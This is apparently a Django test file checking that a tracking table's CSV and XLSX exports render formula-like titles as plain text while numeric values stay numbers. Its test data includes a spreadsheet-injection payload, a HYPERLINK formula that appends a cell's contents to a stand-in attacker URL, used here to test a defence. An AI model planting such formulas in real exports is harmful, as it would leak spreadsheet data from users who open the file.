"""The tracking table's CSV and XLSX exports write what people typed as text: a title that looks like a
formula ("=HYPERLINK(...)") does not become a live formula where the file is opened; figures stay numbers."""

import csv
import io
from decimal import Decimal

from django.urls import reverse
from openpyxl import load_workbook

from tests.results.conftest import indicator_build

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_a_title_that_looks_like_a_formula_is_exported_as_text(demo, client_as):
    indicator_build(demo, "@SUM(1)", title={"en": FORMULA, "fr": FORMULA}, baseline_value=Decimal(-5))
    client = client_as("manager")
    rows = list(
        csv.reader(io.StringIO(client.get(reverse("results:tracking_csv", kwargs={"code": "demo"})).content.decode()))
    )
    row = next(line for line in rows if "HYPERLINK" in line[3])
    assert row[3] == "'" + FORMULA and row[2] == "'@SUM(1)"
    assert row[4] == "-5"  # the baseline, a number, left as it is

    workbook = load_workbook(io.BytesIO(client.get(reverse("results:tracking_xlsx", kwargs={"code": "demo"})).content))
    sheet = workbook.worksheets[0]
    cells = next(line for line in sheet.iter_rows() if "HYPERLINK" in str(line[3].value))
    assert cells[3].value == FORMULA and cells[3].data_type == "s"
    assert cells[4].value == -5 and cells[4].data_type == "n"
